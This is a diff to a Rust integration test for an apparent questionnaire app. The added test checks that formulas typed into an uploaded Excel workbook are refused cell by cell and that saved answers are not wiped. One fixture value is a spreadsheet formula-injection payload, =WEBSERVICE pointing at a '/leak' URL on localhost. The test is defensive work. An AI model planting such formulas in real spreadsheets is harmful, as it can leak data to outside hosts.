@@ -21,6 +21,7 @@ on_both_backends!(
     non_answers_where_not_allowed_and_formulas_in_reasons,
     spreadsheets_that_are_not_what_they_claim_change_nothing,
     file_names_reach_the_exports_as_text,
+    formulas_typed_into_the_workbook_never_clear_an_answer_silently,
 );
 
 const PDF: &[u8] = b"%PDF-1.7\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n";
@@ -1027,4 +1028,97 @@ async fn file_names_reach_the_exports_as_text(backend: Backend) {
         "{}",
         json.body
     );
+}
+
+/// The workbook's cell (A1 name) of a question's answer, found by the hidden id column.
+fn answer_cell(bytes: &[u8], sheet: &str, question: &str) -> String {
+    use calamine::{Data, Reader, Xlsx};
+    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
+    let range = book.worksheet_range(sheet).unwrap();
+    let (end, _) = range.end().unwrap();
+    for r in 0..=end {
+        if matches!(range.get_value((r, 0)), Some(Data::String(s)) if s == question) {
+            return format!("D{}", r + 1);
+        }
+    }
+    panic!("no row for {question} in {sheet}");
+}
+
+/// Write formulas into cells with openpyxl, as a person typing them would (no cached value).
+fn with_formulas(bytes: &[u8], edits: &[(&str, String, &str)]) -> Vec<u8> {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("in.xlsx");
+    std::fs::write(&path, bytes).unwrap();
+    let list: Vec<serde_json::Value> = edits
+        .iter()
+        .map(|(sheet, cell, v)| serde_json::json!([sheet, cell, v]))
+        .collect();
+    let script = r#"
+import sys, json, openpyxl
+path, edits = sys.argv[1], json.loads(sys.argv[2])
+wb = openpyxl.load_workbook(path)
+for sheet, cell, value in edits:
+    wb[sheet][cell].value = value
+wb.save(path)
+"#;
+    let python = std::env::var("COHERENCE_TEST_PYTHON")
+        .expect("COHERENCE_TEST_PYTHON: the test venv with openpyxl");
+    let out = std::process::Command::new(python)
+        .args(["-c", script, path.to_str().unwrap()])
+        .arg(serde_json::Value::Array(list).to_string())
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "openpyxl: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    std::fs::read(&path).unwrap()
+}
+
+async fn formulas_typed_into_the_workbook_never_clear_an_answer_silently(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let link = app.issue_token("fixture", "SWE", "Anna Berg");
+    let saved = app
+        .save_section(&link, "basics", &[("name", "Anna"), ("staff", "7")])
+        .await;
+    assert_eq!(saved.status, 303, "{}", saved.body);
+    let before = saved_count(&app);
+    let ours = workbook(&app, &link).await;
+    let sheet = "1. Basics";
+    let name = answer_cell(&ours, sheet, "name");
+    let staff = answer_cell(&ours, sheet, "staff");
+    let filled = with_formulas(
+        &ours,
+        &[
+            (
+                sheet,
+                name.clone(),
+                "=WEBSERVICE(\"http://127.0.0.1:9/leak\")",
+            ),
+            (sheet, staff.clone(), "=1+1"),
+        ],
+    );
+    let page = upload_workbook(&app, &link, filled).await;
+    // Refused cell by cell, never read as "empty" and the answers deleted.
+    assert_eq!(page.status, 422, "{}", page.body);
+    for cell in [&name, &staff] {
+        assert!(
+            page.body.contains(&format!("{sheet}!{cell}")),
+            "{cell}: {}",
+            page.body
+        );
+    }
+    assert_eq!(
+        page.body
+            .matches("Type the answer itself, not a formula")
+            .count(),
+        2,
+        "{}",
+        page.body
+    );
+    let form = app.get(&format!("{link}/s/basics")).await;
+    assert_eq!(form.field_value("name").as_deref(), Some("Anna"));
+    assert_eq!(form.field_value("staff").as_deref(), Some("7"));
+    assert_eq!(saved_count(&app), before);
 }
